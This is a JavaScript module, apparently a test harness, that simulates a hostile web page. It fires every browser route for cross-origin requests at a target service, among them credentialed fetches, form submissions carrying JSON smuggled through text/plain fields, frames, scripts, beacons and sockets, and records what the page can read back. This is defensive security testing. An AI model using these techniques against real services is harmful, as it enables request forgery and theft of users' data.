// What the hostile page tries: every way in which a web page can send a request to another server. Each
// attempt returns a promise of the text that the page could read. Runs in the browser.
//
// The query of a URL names the attempt and the kind of answer that the page would best be able to read.

const forms = {
  "form": "application/x-www-form-urlencoded",
  "form multipart": "multipart/form-data",
  "form text/plain": "text/plain",
};

const simpleTypes = Object.values(forms);

const requestTo = (url, mode, type, body) =>
  fetch(url, { method: "POST", mode, credentials: "include", headers: { "Content-Type": type }, body })
    .then((answer) => answer.text());

function sendWithXhr(url, type, body) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open("POST", url);
    request.setRequestHeader("Content-Type", type);
    request.onloadend = () => resolve(request.responseText);
    request.send(body);
  });
}

function multipart(request) {
  const form = new FormData();
  form.append("file", new Blob([request.body], { type: request.type }));
  return form;
}

async function sendBeacon(url, body) {
  if (!navigator.sendBeacon(url, body)) throw new Error("the beacon was not queued");
  return "";
}

/** Waits for the message of a document, frame or script that came from the server. */
function message(attempt) {
  return new Promise((resolve) => {
    addEventListener("message", ({ data }) => data.attempt === attempt && resolve(data.text));
  });
}

function add(tag, properties) {
  const element = Object.assign(document.createElement(tag), properties);
  document.body.append(element);
  return element;
}

// A text/plain form sends "name=value". The equals sign becomes part of the last value of the JSON text.
function submitForm(url, encoding, body, attempt) {
  const isJson = body.endsWith("}");
  const frame = add("iframe", { name: `frame of ${attempt}` });
  const form = add("form", { action: url, method: "POST", enctype: encoding, target: frame.name });
  form.append(Object.assign(document.createElement("input"), {
    name: isJson ? `${body.slice(0, -1)},"x":"` : body,
    value: isJson ? '"}' : "",
  }));
  form.submit();
  return message(attempt);
}

/** Attempts that send a request with a body. */
function sending(request) {
  const { body, type } = request;
  const text = (run) => ({ kind: "text", run });
  const found = {
    "fetch": text((url) => requestTo(url, "cors", type, body)),
    "fetch no-cors with the service's type": text((url) => requestTo(url, "no-cors", type, body)),
    "fetch no-cors with a typed blob": text((url) =>
      fetch(url, { method: "POST", mode: "no-cors", body: new Blob([body], { type }) })
        .then((answer) => answer.text())),
    "fetch no-cors multipart": text((url) =>
      fetch(url, { method: "POST", mode: "no-cors", body: multipart(request) })
        .then((answer) => answer.text())),
    "fetch keepalive": text((url) =>
      fetch(url, { method: "POST", keepalive: true, body }).then((answer) => answer.text())),
    "XMLHttpRequest": text((url) => sendWithXhr(url, type, body)),
    "XMLHttpRequest text/plain": text((url) => sendWithXhr(url, "text/plain", body)),
    "beacon": text((url) => sendBeacon(url, body)),
    "beacon with a typed blob": text((url) => sendBeacon(url, new Blob([body], { type }))),
    "beacon with a text/plain blob": text((url) => sendBeacon(url, new Blob([body], { type: "text/plain" }))),
  };
  for (const simple of simpleTypes)
    found[`fetch no-cors ${simple}`] = text((url) => requestTo(url, "no-cors", simple, body));
  for (const [name, encoding] of Object.entries(forms))
    found[name] = { kind: "document", run: (url, attempt) => submitForm(url, encoding, body, attempt) };
  return found;
}

/** Attempts that get the trace, each with the kind of answer that it can read. */
const getting = {
  "get with fetch": {
    kind: "text",
    run: (url) => fetch(url).then((answer) => answer.text()),
  },
  "get with fetch no-cors": {
    kind: "text",
    run: (url) => fetch(url, { mode: "no-cors" }).then((answer) => answer.text()),
  },
  "get in a frame": {
    kind: "document",
    run: (url, attempt) => (add("iframe", { src: url }), message(attempt)),
  },
  "get as an object": {
    kind: "document",
    run: (url, attempt) => (add("object", { data: url, type: "text/html" }), message(attempt)),
  },
  "get in a window": {
    kind: "document",
    run: (url, attempt) => (open(url), message(attempt)),
  },
  "get as a script": {
    kind: "script",
    run: (url, attempt) => (add("script", { src: url }), message(attempt)),
  },
  "get as a module": {
    kind: "script",
    run: (url, attempt) => (add("script", { src: url, type: "module" }), message(attempt)),
  },
  "get as a style sheet": {
    kind: "style",
    run: (url) => new Promise((resolve) => {
      const read = () => resolve(getComputedStyle(document.body).getPropertyValue("--answer"));
      add("link", { rel: "stylesheet", href: url, onload: read, onerror: read });
    }),
  },
  "get as an image": {
    kind: "image",
    run: (url) => new Promise((resolve) => {
      const image = add("img", { src: url });
      image.onload = image.onerror = () => resolve(image.naturalWidth ? String(image.naturalWidth) : "");
    }),
  },
  "EventSource": {
    kind: "events",
    run: (url) => new Promise((resolve) => {
      const source = new EventSource(url);
      source.onmessage = ({ data }) => (source.close(), resolve(data));
      source.onerror = () => (source.close(), resolve(""));
    }),
  },
  "WebSocket": {
    kind: "socket",
    run: (url) => new Promise((resolve) => {
      const socket = new WebSocket(url.replace("http:", "ws:"));
      socket.onmessage = ({ data }) => (socket.close(), resolve(data));
      socket.onerror = () => resolve("");
    }),
  },
};

/**
 * Makes all attempts at once, those with a body for each of the requests. Returns what the page read by the
 * name of the attempt; nothing if no answer came within the time limit.
 */
export async function attack(page, target, requests, milliseconds) {
  const attempts = [
    ...requests.flatMap((request) =>
      Object.entries(sending(request)).map(([way, attempt]) => [way, request.path, request.name, attempt])),
    ...Object.entries(getting).map(([way, attempt]) => [way, "/trace", "trace", attempt]),
  ];
  const read = {};
  await Promise.all(attempts.map(async ([way, path, what, { kind, run }]) => {
    const attempt = `${page}: ${way}: ${what}`;
    const url = `${target}${path}?${new URLSearchParams({ attempt, kind })}`;
    const limit = new Promise((resolve) => setTimeout(resolve, milliseconds, ""));
    read[attempt] = await Promise.race([run(url, attempt).catch(() => ""), limit]);
  }));
  return read;
}
